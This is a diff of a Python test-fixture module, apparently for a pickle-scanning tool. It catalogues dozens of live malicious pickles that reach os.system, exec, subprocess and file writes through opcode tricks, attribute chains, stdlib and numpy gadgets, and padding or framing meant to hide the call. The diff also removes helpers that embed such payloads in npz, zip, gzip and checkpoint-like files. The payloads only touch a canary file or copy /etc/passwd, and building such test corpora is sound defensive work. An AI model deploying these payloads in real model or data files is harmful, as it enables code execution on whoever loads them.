@@ -1,25 +1,14 @@
-"""Pickles that would run code, pickles that are broken on purpose, and files around them.
+"""Pickles that would run code, and pickles that are broken on purpose.
 
 A live attack makes the file `canary` in the current folder when CPython loads it: no test can pass because
-the payload was dead. `ATTACKS` are pickles, `FILES` whole files with what Python does to load them, and
-`HARMLESS` pickles that run nothing but what makes their own values.
+the payload was dead. Files around such pickles are in attack_files.py.
 """
 
 from __future__ import annotations
 
-import bz2
 import collections
-import datetime
-import decimal
-import fractions
-import gzip
-import io
-import lzma
 import pickle
 import struct
-import uuid
-import zipfile
-import zlib
 from typing import Any, NamedTuple
 
 import numpy as np
@@ -34,14 +23,6 @@ class Attack(NamedTuple):
     name: str
     data: bytes
     live: bool
-
-
-class File(NamedTuple):
-    """A file, and the Python that loads it from `path`; an empty loader loads nothing."""
-
-    name: str
-    data: bytes
-    loader: str
 
 
 def text(value: str) -> bytes:
@@ -109,20 +90,40 @@ def opcodes() -> list[Attack]:
         Attack("newobj", done(new(name("builtins", "tuple"), mapped)), True),
         Attack(
             "newobj-ex",
-            done(name("builtins", "tuple") + b"(" + name("builtins", "map") + value((SYSTEM, [COMMAND])) + b"}\x92t}\x92"),
+            done(
+                name("builtins", "tuple") + b"(" + name("builtins", "map") + value((SYSTEM, [COMMAND])) + b"}\x92t}\x92"
+            ),
             True,
         ),
         Attack("build", done(namespace + value({"__setstate__": SYSTEM}) + b"b" + text(COMMAND) + b"b"), True),
-        Attack("build-slots", done(namespace + value((None, {"__setstate__": SYSTEM})) + b"b" + text(COMMAND) + b"b"), True),
+        Attack(
+            "build-slots", done(namespace + value((None, {"__setstate__": SYSTEM})) + b"b" + text(COMMAND) + b"b"), True
+        ),
         Attack("stack-global", PAYLOAD, True),
         Attack(
             "stack-global-memoised",
-            done(text("os") + b"\x940" + text("system") + b"\x940" + text("json") + b"0h\x00h\x01\x93" + text(COMMAND) + b"\x85R"),
+            done(
+                text("os")
+                + b"\x940"
+                + text("system")
+                + b"\x940"
+                + text("json")
+                + b"0h\x00h\x01\x93"
+                + text(COMMAND)
+                + b"\x85R"
+            ),
             True,
         ),
         Attack(
             "stack-global-memoised-by-number",
-            done(text("os") + b"p77\n0" + text("system") + b"r\xff\xff\x00\x000g77\nj\xff\xff\x00\x00\x93" + text(COMMAND) + b"\x85R"),
+            done(
+                text("os")
+                + b"p77\n0"
+                + text("system")
+                + b"r\xff\xff\x00\x000g77\nj\xff\xff\x00\x00\x93"
+                + text(COMMAND)
+                + b"\x85R"
+            ),
             True,
         ),
         Attack("stack-global-of-escapes", b"V\\u006fs\nV\\u0073ystem\n\x93(" + PRINTF + b"tR.", True),
@@ -134,11 +135,21 @@ def opcodes() -> list[Attack]:
         ),
         Attack(
             "stack-global-computed-by-known-types",
-            done(call(name("builtins", "str"), "os") + call(name("builtins", "str"), "system") + b"\x93" + value((COMMAND,)) + b"R"),
+            done(
+                call(name("builtins", "str"), "os")
+                + call(name("builtins", "str"), "system")
+                + b"\x93"
+                + value((COMMAND,))
+                + b"R"
+            ),
             True,
         ),
         Attack("protocol-named-late", b"cos\nsystem\n\x80\x05(" + PRINTF + b"tR.", True),
-        Attack("extension-code", done(call(name("copyreg", "add_extension"), "os", "system", 240) + b"0\x82\xf0" + value((COMMAND,)) + b"R"), True),
+        Attack(
+            "extension-code",
+            done(call(name("copyreg", "add_extension"), "os", "system", 240) + b"0\x82\xf0" + value((COMMAND,)) + b"R"),
+            True,
+        ),
         Attack("extension-code-alone", b"\x80\x02\x82\xf0" + value((COMMAND,)) + b"R.", False),
         Attack("persistent-id", b"Pos.system\n(" + PRINTF + b"tR.", False),
         Attack("persistent-id-that-calls", done(RUN + b"Q"), True),
@@ -150,25 +161,59 @@ def chains() -> list[Attack]:
     """`os.system` found by what finds it."""
     return [
         Attack("getattr", done(call(call(GETATTR, OS, "system"), COMMAND)), True),
-        Attack("dunder-import", done(call(call(GETATTR, call(name("builtins", "__import__"), "os"), "system"), COMMAND)), True),
+        Attack(
+            "dunder-import",
+            done(call(call(GETATTR, call(name("builtins", "__import__"), "os"), "system"), COMMAND)),
+            True,
+        ),
         Attack("attrgetter", done(call(call(call(name("operator", "attrgetter"), "system"), OS), COMMAND)), True),
         Attack("methodcaller", done(call(call(name("operator", "methodcaller"), "system", COMMAND), OS)), True),
         Attack("c-attrgetter", done(call(call(call(name("_operator", "attrgetter"), "system"), OS), COMMAND)), True),
         Attack("resolve-name", done(call(call(name("pkgutil", "resolve_name"), "os:system"), COMMAND)), True),
         Attack("dotted-name", done(call(name("logging", "os.system"), COMMAND)), True),
-        Attack("dotted-known", done(call(call(GETATTR, call(name("collections", "_sys.modules.get"), "os"), "system"), COMMAND)), True),
-        Attack("dotted-of-a-listed-type", done(call(name("builtins", "object.__getattribute__"), OS, "system") + value((COMMAND,)) + b"R"), True),
+        Attack(
+            "dotted-known",
+            done(call(call(GETATTR, call(name("collections", "_sys.modules.get"), "os"), "system"), COMMAND)),
+            True,
+        ),
+        Attack(
+            "dotted-of-a-listed-type",
+            done(call(name("builtins", "object.__getattribute__"), OS, "system") + value((COMMAND,)) + b"R"),
+            True,
+        ),
         Attack("re-export-builtins", done(call(call(GETITEM, name("numpy", "__builtins__"), "exec"), CODE)), True),
         Attack("re-export-module", done(call(call(GETATTR, name("logging", "os"), "system"), COMMAND)), True),
         Attack("re-export-of-a-function", done(call(name("webbrowser", "shlex.os.system"), COMMAND)), True),
         Attack("module-dict", done(call(call(GETITEM, name("os", "__dict__"), "system"), COMMAND)), True),
-        Attack("sys-modules", done(call(call(GETATTR, call(GETITEM, name("sys", "modules"), "os"), "system"), COMMAND)), True),
+        Attack(
+            "sys-modules",
+            done(call(call(GETATTR, call(GETITEM, name("sys", "modules"), "os"), "system"), COMMAND)),
+            True,
+        ),
         Attack("partial", done(call(new(name("functools", "partial"), SYSTEM, COMMAND))), True),
         Attack("map", done(call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, [COMMAND]))), True),
-        Attack("filter", done(call(name("builtins", "list"), call(name("builtins", "filter"), SYSTEM, [COMMAND]))), True),
-        Attack("starmap", done(call(name("builtins", "list"), call(name("itertools", "starmap"), SYSTEM, [(COMMAND,)]))), True),
-        Attack("default-factory", done(call(GETITEM, call(name("collections", "defaultdict"), new(name("functools", "partial"), SYSTEM, COMMAND)), 1)), True),
-        Attack("finalizer", done(call(name("weakref", "finalize"), name("argparse", "Namespace"), SYSTEM, COMMAND)), True),
+        Attack(
+            "filter", done(call(name("builtins", "list"), call(name("builtins", "filter"), SYSTEM, [COMMAND]))), True
+        ),
+        Attack(
+            "starmap",
+            done(call(name("builtins", "list"), call(name("itertools", "starmap"), SYSTEM, [(COMMAND,)]))),
+            True,
+        ),
+        Attack(
+            "default-factory",
+            done(
+                call(
+                    GETITEM,
+                    call(name("collections", "defaultdict"), new(name("functools", "partial"), SYSTEM, COMMAND)),
+                    1,
+                )
+            ),
+            True,
+        ),
+        Attack(
+            "finalizer", done(call(name("weakref", "finalize"), name("argparse", "Namespace"), SYSTEM, COMMAND)), True
+        ),
         Attack("at-exit", done(call(name("atexit", "register"), SYSTEM, COMMAND)), True),
     ]
 
@@ -180,7 +225,18 @@ def gadgets() -> list[Attack]:
         Attack("exec", done(call(name("builtins", "exec"), CODE)), True),
         Attack("python-2-eval", b"c__builtin__\neval\n" + value((CODE,)) + b"R.", True),
         Attack("python-2-commands", b"ccommands\ngetoutput\n(" + PRINTF + b"tR.", True),
-        Attack("compile", done(call(name("types", "FunctionType"), call(name("builtins", "compile"), CODE, "x", "exec"), {"open": name("builtins", "open")}) + b")R"), True),
+        Attack(
+            "compile",
+            done(
+                call(
+                    name("types", "FunctionType"),
+                    call(name("builtins", "compile"), CODE, "x", "exec"),
+                    {"open": name("builtins", "open")},
+                )
+                + b")R"
+            ),
+            True,
+        ),
         Attack("open", done(call(name("builtins", "open"), "canary", "w")), True),
         Attack("io-open", done(call(name("io", "open"), "canary", "w")), True),
         Attack("file-io", done(call(name("_io", "FileIO"), "canary", "w")), True),
@@ -192,32 +248,73 @@ def gadgets() -> list[Attack]:
         Attack("getoutput", done(call(name("subprocess", "getoutput"), COMMAND)), True),
         Attack("posix-open", done(call(name("posix", "open"), "canary", 65)), True),
         Attack("mknod", done(call(name("os", "mknod"), "canary")), True),
-        Attack("pathlib-touch", done(call(name("pathlib", "Path.touch"), call(name("pathlib", "Path"), "canary"))), True),
+        Attack(
+            "pathlib-touch", done(call(name("pathlib", "Path.touch"), call(name("pathlib", "Path"), "canary"))), True
+        ),
         Attack("shutil-copy", done(call(name("shutil", "copyfile"), "/etc/passwd", "canary")), True),
         Attack("pty-spawn", done(call(name("pty", "spawn"), ["touch", "canary"])), True),
         Attack("run-code", done(call(name("runpy", "_run_code"), CODE, {})), True),
-        Attack("interpreter", done(call(name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), CODE)), True),
+        Attack(
+            "interpreter",
+            done(
+                call(
+                    name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), CODE
+                )
+            ),
+            True,
+        ),
         Attack("timeit", done(call(name("timeit", "timeit"), CODE, "pass", name("time", "perf_counter"), 1)), True),
         Attack("c-profile", done(call(name("cProfile", "run"), CODE)), True),
         Attack("profile", done(call(name("profile", "run"), CODE)), True),
         Attack("debugger", done(call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), CODE)), True),
         Attack("trace", done(call(name("trace", "Trace.run"), call(name("trace", "Trace"), 0, 0), CODE)), True),
         Attack("uuid-command", done(call(name("uuid", "_get_command_stdout"), "touch", "canary")), True),
-        Attack("pickle-loads", done(call(name("pickle", "loads"), b"B" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD)), True),
-        Attack("c-pickle-loads", done(call(name("_pickle", "loads"), b"B" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD)), True),
+        Attack(
+            "pickle-loads", done(call(name("pickle", "loads"), b"B" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD)), True
+        ),
+        Attack(
+            "c-pickle-loads",
+            done(call(name("_pickle", "loads"), b"B" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD)),
+            True,
+        ),
         Attack("zip-file", done(call(name("zipfile", "ZipFile"), "canary", "w")), True),
         Attack("tar-file", done(call(name("tarfile", "open"), "canary", "w")), True),
         Attack("gzip-open", done(call(name("gzip", "open"), "canary", "w")), True),
         Attack("log-handler", done(call(name("logging", "FileHandler"), "canary")), True),
         Attack("sqlite", done(call(name("sqlite3", "connect"), "canary")), True),
-        Attack("ctypes", done(call(call(name("ctypes", "CDLL.__getattr__"), call(name("ctypes", "CDLL"), None), "system"), b"C\x0c" + COMMAND.encode())), True),
-        Attack("webbrowser", done(call(name("webbrowser", "GenericBrowser.open"), call(name("webbrowser", "GenericBrowser"), ["touch", "%s"]), "canary")), True),
+        Attack(
+            "ctypes",
+            done(
+                call(
+                    call(name("ctypes", "CDLL.__getattr__"), call(name("ctypes", "CDLL"), None), "system"),
+                    b"C\x0c" + COMMAND.encode(),
+                )
+            ),
+            True,
+        ),
+        Attack(
+            "webbrowser",
+            done(
+                call(
+                    name("webbrowser", "GenericBrowser.open"),
+                    call(name("webbrowser", "GenericBrowser"), ["touch", "%s"]),
+                    "canary",
+                )
+            ),
+            True,
+        ),
         Attack("numpy-runstring", done(call(name("numpy.testing._private.utils", "runstring"), CODE, {})), True),
         Attack("numpy-crackfortran", done(call(name("numpy.f2py.crackfortran", "getlincoef"), CODE, {})), True),
         Attack("numpy-memmap", done(call(name("numpy", "memmap"), "canary", "u1", "w+", 0, (1,))), True),
         Attack("numpy-save", done(call(name("numpy", "savetxt"), "canary", [1])), True),
-        Attack("numpy-open-memmap", done(call(name("numpy.lib.format", "open_memmap"), "canary", "w+", "u1", (1,))), True),
-        Attack("asyncio", done(call(name("asyncio", "run"), call(name("asyncio", "create_subprocess_shell"), COMMAND))), True),
+        Attack(
+            "numpy-open-memmap", done(call(name("numpy.lib.format", "open_memmap"), "canary", "w+", "u1", (1,))), True
+        ),
+        Attack(
+            "asyncio",
+            done(call(name("asyncio", "run"), call(name("asyncio", "create_subprocess_shell"), COMMAND))),
+            True,
+        ),
     ]
 
 
@@ -246,12 +343,20 @@ def hidden() -> list[Attack]:
         Attack("frame-that-lies-long-after", b"\x80\x04" + RUN + b"\x95" + b"\xff" * 8 + b".", True),
         Attack("frame-in-an-argument", b"\x80\x04\x95\x02" + bytes(7) + RUN + b".", True),
         Attack("behind-append-on-a-bytearray", b"\x80\x05\x96\x01" + bytes(7) + b"xK\x01a0" + RUN + b".", True),
-        Attack("behind-setitem-on-a-deque", done(call(name("collections", "deque"), [1]) + b"K\x00K\x01s0" + RUN), True),
+        Attack(
+            "behind-setitem-on-a-deque", done(call(name("collections", "deque"), [1]) + b"K\x00K\x01s0" + RUN), True
+        ),
         Attack("behind-setitem-on-a-list", done(b"](K\x01eK\x00K\x02s0" + RUN), True),
-        Attack("behind-state-of-a-class", done(name("argparse", "Namespace") + value((None, {"x": 1})) + b"b0" + RUN), True),
+        Attack(
+            "behind-state-of-a-class", done(name("argparse", "Namespace") + value((None, {"x": 1})) + b"b0" + RUN), True
+        ),
         Attack("behind-100000-lists", done(nested + RUN), True),
         Attack("behind-shared-tuples", done(laughs + RUN), True),
-        Attack("behind-a-long-of-40000-bytes", done(b"\x8b" + struct.pack("<i", 40_000) + b"\x01" * 40_000 + b"0" + RUN), True),
+        Attack(
+            "behind-a-long-of-40000-bytes",
+            done(b"\x8b" + struct.pack("<i", 40_000) + b"\x01" * 40_000 + b"0" + RUN),
+            True,
+        ),
         Attack("behind-a-surrogate", done(b"X\x03\x00\x00\x00\xed\xb0\x800" + RUN), True),
         Attack("behind-latin-1", b"\x80\x02U\x01a0cos\nsystem\n(" + PRINTF + b"tR.", True),
         Attack("behind-text-and-newlines", b"S'README'\n0cos\nsystem\n(" + PRINTF + b"tR.", True),
@@ -282,92 +387,3 @@ class Payload:
 
 
 ATTACKS = [*opcodes(), *chains(), *gadgets(), *hidden(), *broken()]
-
-PICKLE = "import pickle; pickle.load(open(path, 'rb'))"
-NUMPY = "import numpy as np; np.load(path, allow_pickle=True)"
-MEMBERS = "import numpy as np; z = np.load(path, allow_pickle=True); [z[k] for k in z.files]"
-MEMBER = "import pickle, zipfile; pickle.loads(zipfile.ZipFile(path).open({!r}).read())"
-TWICE = "import numpy as np\nwith open(path, 'rb') as f:\n    np.load(f); np.load(f, allow_pickle=True)"
-
-
-def zipped(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
-    """Make an archive."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", method) as archive:
-        for member, data in members:
-            archive.writestr(zipfile.ZipInfo(member), data, compress_type=method)
-    return out.getvalue()
-
-
-def npy(array: Any) -> bytes:
-    """Make an npy file."""
-    out = io.BytesIO()
-    np.save(out, array, allow_pickle=True)
-    return out.getvalue()
-
-
-def bad_crc(archive: bytes) -> bytes:
-    """Break the first member's checksum in the directory and in its own header."""
-    at = archive.rindex(b"PK\x01\x02")
-    return archive[:14] + b"\0\0\0\0" + archive[18 : at + 16] + b"\0\0\0\0" + archive[at + 20 :]
-
-
-def files() -> list[File]:
-    """Files around a payload."""
-    objects = npy(np.array([Payload()], object))
-    numbers = npy(np.arange(3))
-    inner = zipped([("a.pkl", PAYLOAD)])
-    open_with = "import {0}, pickle; pickle.load({0}.open(path))"
-    return [
-        File("objects.npy", objects, NUMPY),
-        File("objects-of-another-name.txt", objects, NUMPY),
-        File("pickle-as-npy.npy", PAYLOAD, NUMPY),
-        File("pickle-as-png.png", PAYLOAD, PICKLE),
-        File("after-an-array.npy", numbers + PAYLOAD, TWICE),
-        File("after-two-arrays.npy", numbers + numbers + objects, TWICE.replace("np.load(f);", "np.load(f); np.load(f);")),
-        File("archive-after-an-array.npy", numbers + zipped([("o.npy", objects)]), TWICE + "['o']"),
-        File("member.npz", zipped([("x.npy", numbers), ("o.npy", objects)]), MEMBERS),
-        File("deflated.npz", zipped([("o.npy", objects)], zipfile.ZIP_DEFLATED), MEMBERS),
-        File("bzip2.npz", zipped([("o.npy", objects)], zipfile.ZIP_BZIP2), MEMBERS),
-        File("lzma.npz", zipped([("o.npy", objects)], zipfile.ZIP_LZMA), MEMBERS),
-        File("bare-pickle-in-an-archive.npz", zipped([("x.npy", PAYLOAD)]), MEMBER.format("x.npy")),
-        File("checkpoint.pt", zipped([("m/data.pkl", PAYLOAD), ("m/data/0", bytes(64))]), MEMBER.format("m/data.pkl")),
-        File("one-name-twice.zip", zipped([("a.pkl", PAYLOAD), ("a.pkl", pickle.dumps(1))]), MEMBER.replace("ZipFile(path).open({!r})", "ZipFile(path).open(zipfile.ZipFile(path).infolist()[0])")),
-        File("after-another-file.zip", b"#!/bin/sh\n" + zipped([("a.pkl", PAYLOAD)]), MEMBER.format("a.pkl")),
-        File("zip-in-zip.zip", zipped([("b.zip", inner)]), ""),
-        File("bad-checksum.npz", bad_crc(zipped([("a.pkl", PAYLOAD)])), ""),
-        File("pickle.gz", gzip.compress(PAYLOAD), open_with.format("gzip")),
-        File("pickle.bz2", bz2.compress(PAYLOAD), open_with.format("bz2")),
-        File("pickle.xz", lzma.compress(PAYLOAD), open_with.format("lzma")),
-        File("pickle.lzma", lzma.compress(PAYLOAD, lzma.FORMAT_ALONE), open_with.format("lzma")),
-        File("pickle.z", zlib.compress(PAYLOAD), "import pickle, zlib; pickle.loads(zlib.decompress(open(path, 'rb').read()))"),
-        File("gzip-in-gzip.gz", gzip.compress(gzip.compress(PAYLOAD)), ""),
-        File("behind-an-image.png", b"\x89PNG\r\n\x1a\n" + bytes(100) + PAYLOAD, "import pickle; f = open(path, 'rb'); f.seek(108); pickle.load(f)"),
-        File("behind-text.txt", b"Permission is hereby granted\n" + PAYLOAD, "import pickle; f = open(path, 'rb'); f.readline(); pickle.load(f)"),
-    ]
-
-
-FILES = files()
-
-
-def harmless() -> list[tuple[str, bytes]]:
-    """Pickles of values, by every protocol."""
-    shared: list[Any] = [1, 2]
-    values = {
-        "plain": {"a": [1, 2.5, None, True], "b": ("x", b"y", 2**100, {1, 2}, frozenset([3]))},
-        "shared": [shared, shared, {"s": shared}],
-        "array": np.arange(12.0).reshape(3, 4),
-        "arrays": {str(i): np.ones(i, "f4") for i in range(20)},
-        "fortran": np.asfortranarray(np.arange(6).reshape(2, 3)),
-        "struct": np.zeros(2, [("x", "f8"), ("y", "U3")]),
-        "objects": np.array([{"a": 1}, None, "x"], object),
-        "scalars": [np.float64(1), np.int8(2), np.datetime64("2020-01-01")],
-        "dates": [datetime.date(2020, 1, 1), datetime.datetime(2020, 1, 1, tzinfo=datetime.timezone.utc)],
-        "numbers": [decimal.Decimal("1.5"), fractions.Fraction(1, 3), complex(1, 2)],
-        "collections": [collections.OrderedDict(a=1), collections.deque([1]), collections.Counter("aab"), collections.defaultdict(list)],
-        "uuid": uuid.UUID(int=5),
-    }
-    return [(f"{name}-{protocol}", pickle.dumps(value, protocol)) for name, value in values.items() for protocol in range(6)]
-
-
-HARMLESS = harmless()
